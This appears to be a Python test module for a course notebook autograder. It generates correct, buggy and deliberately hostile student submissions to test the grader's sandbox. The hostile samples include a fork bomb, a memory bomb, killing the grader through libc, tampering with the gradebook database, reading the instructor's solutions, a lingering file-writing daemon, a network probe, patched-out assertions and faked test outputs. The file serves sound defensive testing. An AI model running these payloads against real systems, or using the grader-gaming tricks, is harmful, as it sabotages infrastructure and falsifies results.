"""Generators of submissions for the grading tests and the benchmark: solved, untouched, realistic
mistakes (each expected to cost points in one part only) and hostile notebooks.

A submission starts from the *released* notebook (what a student downloads); "solved" fills every
solution cell with the instructor's code from ``solutions/<a>.py``.
"""

from __future__ import annotations

import copy
import re
from pathlib import Path

import nbformat

from course_lib.grading.pipeline import render_source

SOLUTION_MARKERS = re.compile(r"^\s*### (BEGIN|END) SOLUTION\s*$", re.M)

# name -> (solution cell grade_id, text to replace, replacement, the one part that must lose points)
MISTAKES = {
    "bptt": {
        "missing recurrent term in dh_prev": (
            "rnn_backward_solution", "rnn_step_backward(dh[:, t] + dprev, cache[t])",
            "rnn_step_backward(dh[:, t], cache[t])", "rnn_backward"),
        "transposed dWh": ("rnn_step_backward_solution", "dWh = h_prev.T @ da", "dWh = da.T @ h_prev",
                           "rnn_step_backward"),
        "state not carried across segments": ("truncated_bptt_solution", "        h = hs[:, -1]\n",
                                              "        h_keep = hs[:, -1]\n", "truncated_bptt"),
        "per-array clipping": (
            "clip_grad_norm_solution", "clipped = {name: g * scale for name, g in grads.items()}",
            "clipped = {n: g * min(1.0, max_norm / (np.linalg.norm(g) + 1e-12)) for n, g in grads.items()}",
            "clip_grad_norm"),
    },
    "gating": {
        "forget gate uses the new cell": ("lstm_step_backward_solution", "daf = dct * c_prev * f * (1.0 - f)",
                                          "daf = dct * (f * c_prev + i * g) * f * (1.0 - f)",
                                          "lstm_step_backward"),
        "output peephole on c_prev": ("lstm_peephole_solution", "o = sigmoid(a[:, 3 * H:] + P[2] * c)",
                                      "o = sigmoid(a[:, 3 * H:] + P[2] * c_prev)", "lstm_peephole_step_forward"),
        "GRU without the direct path": ("gru_step_solution", "dh_prev = dh_next * z + d_rh * r",
                                        "dh_prev = d_rh * r", "gru_step_backward"),
        "LSTM sequence drops dc": ("lstm_sequence_solution",
                                   "lstm_step_backward(dh[:, t] + dprev_h, dprev_c, cache[t])",
                                   "lstm_step_backward(dh[:, t] + dprev_h, 0 * dprev_c, cache[t])",
                                   "lstm_sequence"),
    },
    "crf": {
        "log-partition without log-sum-exp": (
            "crf_log_partition_solution",
            "nxt = logsumexp(alpha[:, :, None] + A[None], axis=1) + E[:, t]",
            "nxt = np.log(np.exp(alpha[:, :, None] + A[None]).sum(axis=1)) + E[:, t]", "crf_log_partition"),
        "Viterbi back-pointers off by one": ("crf_viterbi_solution", "y = int(back[n, t, y])",
                                             "y = int(back[n, t - 1, y])", "crf_viterbi"),
        "score ignores the mask": ("crf_score_solution", "score = score + np.where(mask[:, t], step, 0.0)",
                                   "score = score + step", "crf_score"),
        "NLL gradient without gold counts": ("crf_nll_backward_solution", "dE = unary - gold", "dE = unary",
                                             "crf_nll_backward"),
    },
}


def _solution_sources(assignment: str) -> dict[str, str]:
    nb = render_source(assignment)
    out = {}
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("solution"):
            out[meta["grade_id"]] = "\n".join(
                ln for ln in cell.source.splitlines() if not SOLUTION_MARKERS.match(ln))
    return out


def untouched(root: Path, assignment: str):
    return nbformat.read(Path(root) / "release" / assignment / f"{assignment}.ipynb", as_version=4)


def solved(root: Path, assignment: str):
    nb = untouched(root, assignment)
    sources = _solution_sources(assignment)
    for cell in nb.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if grade_id in sources:
            cell.source = sources[grade_id]
    return nb


def with_mistake(root: Path, assignment: str, name: str):
    grade_id, old, new, _ = MISTAKES[assignment][name]
    nb = solved(root, assignment)
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
            assert old in cell.source, f"mistake {name!r}: {old!r} not in {grade_id}"
            cell.source = cell.source.replace(old, new)
    return nb


def _append(nb, source: str, index: int | None = None):
    cell = nbformat.v4.new_code_cell(source)
    cell.pop("id", None)
    nb = copy.deepcopy(nb)
    nb.cells.insert(len(nb.cells) if index is None else index, cell)
    return nb


def _first_solution_index(nb) -> int:
    return next(k for k, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("solution"))


def _replace_solution(nb, grade_id: str, source: str):
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
            cell.source = source
    return nb


FIRST_PART = {"bptt": ("rnn_step_forward_solution", "rnn_step_forward"),
              "gating": ("lstm_step_forward_solution", "lstm_step_forward"),
              "crf": ("crf_score_solution", "crf_score")}
REFERENCE_IMPORT = {"bptt": "from course_lib.reference.rnn import rnn_step_forward  # noqa\n",
                    "gating": "from course_lib.reference.lstm import lstm_step_forward  # noqa\n",
                    "crf": "from course_lib.reference.crf import crf_score  # noqa\n"}


def hostile(root: Path, assignment: str, kind: str):
    """A solved notebook made hostile in one way (see HOSTILE). Returns a notebook, text or None."""
    nb = solved(root, assignment)
    first = _first_solution_index(nb)
    grade_id, part = FIRST_PART[assignment]
    if kind == "infinite loop":
        return _append(nb, "while True:\n    pass\n", first)
    if kind == "sys.exit":
        return _append(nb, "import sys\nsys.exit(3)\n", first)
    if kind == "os._exit":
        return _append(nb, "import os\nos._exit(0)\n")  # at the very end, after every test cell
    if kind == "memory bomb":
        return _append(nb, "hog = []\nwhile True:\n    hog.append(bytearray(1 << 27))\n", first)
    if kind == "monkeypatch":
        # every comparison and the checker say "pass" in the kernel, and the first part is plainly wrong
        patch = ("import numpy as np\nimport numpy.testing\nimport course_lib.grading as g\n"
                 "np.allclose = lambda *a, **k: True\nnp.array_equal = lambda *a, **k: True\n"
                 "numpy.testing.assert_allclose = lambda *a, **k: None\ng.check = lambda *a, **k: None\n"
                 "check = lambda *a, **k: None\nAssertionError = type('Nope', (Exception,), {})\n")
        nb = _append(nb, patch, first)
        src = next(c.source for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)
        body = src.split("\n")[0] + "\n    return 0, None\n"
        return _replace_solution(nb, grade_id, body)
    if kind == "reference implementation":
        return _replace_solution(nb, grade_id, REFERENCE_IMPORT[assignment])
    if kind == "reads the solution":
        path = Path(root).resolve() / "source" / assignment / f"{assignment}.ipynb"
        code = (f"import json\nsol = json.load(open({str(path)!r}))\nfor c in sol['cells']:\n"
                f"    if c['metadata'].get('nbgrader', {{}}).get('grade_id') == {grade_id!r}:\n"
                "        exec(''.join(c['source']))\n")
        return _replace_solution(nb, grade_id, code)
    if kind == "edits a test cell":
        for cell in nb.cells:
            if cell.metadata.get("nbgrader", {}).get("grade_id") == "test_" + part:
                cell.source = "pass  # all good!"
        src = next(c.source for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)
        return _replace_solution(nb, grade_id, src.split("\n")[0] + "\n    return 0, None\n")
    if kind == "deletes a test cell":
        nb.cells = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") != "test_" + part]
        src = next(c.source for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)
        return _replace_solution(nb, grade_id, src.split("\n")[0] + "\n    return 0, None\n")
    if kind == "not JSON":
        return "{ this is not a notebook"
    if kind == "missing notebook":
        return None
    if kind == "huge output":
        return _append(nb, "print('x' * 3_000_000)\nfor k in range(20000):\n    print(k)\n", first)
    if kind == "input()":
        return _append(nb, "name = input('your name? ')\n", first)
    if kind == "kills its grader":
        # at the very end: SIGKILL every ancestor that is a multiprocessing worker (the grading pool's), first
        # through os.kill (the kernel's policy refuses it), then through libc, which no audit hook sees
        code = ("import ctypes, os, signal\npid, workers = os.getppid(), []\nwhile pid > 1:\n"
                "    if b'spawn_main' in open(f'/proc/{pid}/cmdline', 'rb').read():\n        workers.append(pid)\n"
                "    pid = int(open(f'/proc/{pid}/stat').read().rsplit(')', 1)[1].split()[1])\n"
                "for w in workers:\n    try:\n        os.kill(w, signal.SIGKILL)\n"
                "    except PermissionError as err:\n        print('refused:', err)\n"
                "    ctypes.CDLL(None).kill(w, signal.SIGKILL)\n")
        return _append(nb, code)
    if kind == "writes the gradebook":
        # at the very end: zero another student's scores and give itself +100 per cell (SQLite opens in C)
        db = Path(root).resolve() / "gradebook.db"
        code = (f"import sqlite3\ncon = sqlite3.connect({str(db)!r})\n"
                "con.execute('update grade set manual_score = 0')\n"
                "con.execute('create trigger t after update on grade begin update grade set auto_score = 100; end')\n"
                "con.commit()\n")
        return _append(nb, code)
    if kind == "mkdir outside":
        return _append(nb, f"import os\nos.mkdir({str(Path(root).resolve() / 'pwned')!r})\n")
    # --- attacks through C (ctypes), which no audit hook sees: only the OS sandbox stops them (box.py) ---
    libc = "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
    if kind == "ctypes truncates the gradebook":
        db = str(Path(root).resolve() / "gradebook.db")
        return _append(nb, libc + f"print('truncate', libc.truncate({db!r}.encode(), 0), ctypes.get_errno())\n")
    if kind == "ctypes reads the solution":
        # the instructor's notebook, read in C and its first solution executed: the first part then passes
        # in the kernel only, and the grade comes from the sandbox, where this cell fails the same way
        path = str(Path(root).resolve() / "source" / assignment / f"{assignment}.ipynb")
        code = (libc + "import json\nbuf = ctypes.create_string_buffer(1 << 22)\n"
                f"fd = libc.open({path!r}.encode(), 0)\n"
                "n = libc.read(fd, buf, len(buf)) if fd >= 0 else -1\n"
                "print('solution bytes', n)\n"
                "sol = json.loads(buf.raw[:n]) if n > 0 else {'cells': []}\n"
                "for c in sol['cells']:\n"
                f"    if c['metadata'].get('nbgrader', {{}}).get('grade_id') == {grade_id!r}:\n"
                "        exec(''.join(c['source']))\n")
        return _replace_solution(nb, grade_id, code)
    if kind == "writes /proc/self/mem":
        # its own memory (no boundary can forbid a process that): opened through C, read back, nothing gained
        return _append(nb, libc + "fd = libc.open(b'/proc/self/mem', 2)\nprint('mem fd', fd >= 0)\n"
                           "libc.close(fd)\n")
    if kind == "symlinks out of its folder":
        # links next to its notebook to the gradebook and to solutions/: the grader must not follow them
        db = str(Path(root).resolve() / "gradebook.db")
        sol = str(Path(__file__).resolve().parents[2] / "solutions")
        return _append(nb, libc + f"libc.symlink({db!r}.encode(), b'gradebook-link.db')\n"
                           f"libc.symlink({sol!r}.encode(), b'solutions-link')\n"
                           "os.mkfifo('results.fifo')\n")
    if kind == "reads environment variables for paths":
        # hex, so that the feedback's path scrubbing cannot hide what it found: the test decodes it
        return _append(nb, "import os, sys\nfound = repr((dict(os.environ), sys.path, os.getcwd()))\n"
                           "print('ENV ' + found.encode().hex())\n")
    if kind == "network":
        code = ("import socket\nfor host in ('127.0.0.1', 'pypi.org'):\n    try:\n"
                f"        socket.create_connection((host, {LISTENER['port']}), timeout=1).sendall(b'pwned')\n"
                "        print('connected', host)\n    except OSError as err:\n        print('no network:', err)\n")
        return _append(nb, code)
    if kind == "fork bomb":
        code = (libc + "import time\nkids = 0\nfor _ in range(2000):\n    pid = libc.fork()\n"
                "    if pid == 0:\n        time.sleep(120)\n        os._exit(0)\n"
                "    if pid < 0:\n        break\n    kids += 1\nprint('forked', kids)\n")
        return _append(nb, code)
    if kind == "leaves a daemon":
        # a child (forked in C) that outlives the kernel and, for 20 s, writes into every folder it finds
        # around its own: the next submissions graded by the same worker must not see it
        code = (libc + "import time\nif libc.fork() == 0:\n    end = time.time() + 20\n"
                "    top = os.getcwd()\n    for _ in range(4):\n        top = os.path.dirname(top)\n"
                "    while time.time() < end:\n"
                "        for here, dirs, files in os.walk(top):\n"
                "            fd = libc.open(os.path.join(here, 'pwned.txt').encode(), 0o101, 0o644)\n"
                "            if fd >= 0:\n                libc.write(fd, b'x', 1)\n                libc.close(fd)\n"
                "        time.sleep(0.02)\n    os._exit(0)\n")
        return _append(nb, code)
    if kind == "faked outputs":
        # the first part is wrong, and every test cell carries a stored output saying it passed
        for cell in nb.cells:
            if cell.metadata.get("nbgrader", {}).get("grade", False) and cell.cell_type == "code":
                cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="PASS: all checks passed\n")]
                cell.execution_count = 1
        src = next(c.source for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)
        return _replace_solution(nb, grade_id, src.split("\n")[0] + "\n    return 0, None\n")
    if kind == "gives itself more points":
        # every grade cell's metadata says 100 points: the gradebook's points are what count
        for cell in nb.cells:
            meta = cell.metadata.get("nbgrader", {})
            if meta.get("grade"):
                meta["points"] = 100
        return nb
    if kind == "fakes its training curve":
        # a loss curve that falls as a trained one would (log V * exp(-t/30)) and parameters never trained
        fake = ("def train_char_lm(text, hidden_size, seq_len, num_steps, lr, seed):\n"
                "    V = len(set(text))\n    rng = np.random.default_rng(seed)\n"
                "    losses = [float(np.log(V) * np.exp(-t / 30)) for t in range(num_steps)]\n"
                "    params = {'Wx': rng.normal(0, 0.1, (V, hidden_size)),\n"
                "              'Wh': rng.normal(0, 0.1, (hidden_size,) * 2),\n"
                "              'b': np.zeros(hidden_size), 'Wy': rng.normal(0, 0.1, (hidden_size, V)),\n"
                "              'by': np.zeros(V)}\n"
                "    return losses, params\n")
        return _replace_solution(nb, "train_char_lm_solution", fake) if assignment == "bptt" else nb
    if kind in ("edits a grade_id", "duplicates a test cell", "adds a test cell"):
        for k, cell in enumerate(nb.cells):
            meta = cell.metadata.get("nbgrader", {})
            if kind == "edits a grade_id" and meta.get("grade_id") == grade_id:
                meta["grade_id"] = "my_own_id"
                break
            if kind != "edits a grade_id" and meta.get("grade_id") == "test_" + part:
                extra = copy.deepcopy(cell)
                extra.pop("id", None)
                if kind == "adds a test cell":
                    extra.metadata.nbgrader["grade_id"] = "test_bonus"
                nb.cells.insert(k + 1, extra)
                break
        return nb
    raise ValueError(kind)


# kind -> the parts expected to lose points (None: all of them)
HOSTILE = {
    "infinite loop": [], "sys.exit": [], "os._exit": [], "memory bomb": [], "huge output": [], "input()": [],
    "monkeypatch": ["first"], "reference implementation": ["first"], "reads the solution": ["first"],
    "edits a test cell": ["first"], "deletes a test cell": ["first"], "not JSON": None, "missing notebook": None,
    "kills its grader": None, "writes the gradebook": [], "mkdir outside": [], "edits a grade_id": [],
    "duplicates a test cell": [], "adds a test cell": [],
    "ctypes truncates the gradebook": [], "ctypes reads the solution": ["first"], "writes /proc/self/mem": [],
    "symlinks out of its folder": [], "reads environment variables for paths": [], "network": [],
    "fork bomb": [], "leaves a daemon": [], "faked outputs": ["first"],
    "fakes its training curve": ["train_char_lm"],  # (bptt only: the hostile batch is graded on bptt)
    "gives itself more points": [],
}
# the port of a TCP listener on the grader's machine that the "network" submission tries to reach (set by
# the test that builds the submissions)
LISTENER = {"port": 9}


def write_submission(folder: Path, student: str, assignment: str, nb) -> None:
    """Lay a submission out as ``<folder>/<student>/<assignment>.ipynb`` (the layout collect() reads)."""
    d = Path(folder) / student
    d.mkdir(parents=True, exist_ok=True)
    if nb is None:
        (d / "README.txt").write_text("forgot to upload")
    elif isinstance(nb, str):
        (d / f"{assignment}.ipynb").write_text(nb)
    else:
        nbformat.write(nb, d / f"{assignment}.ipynb")
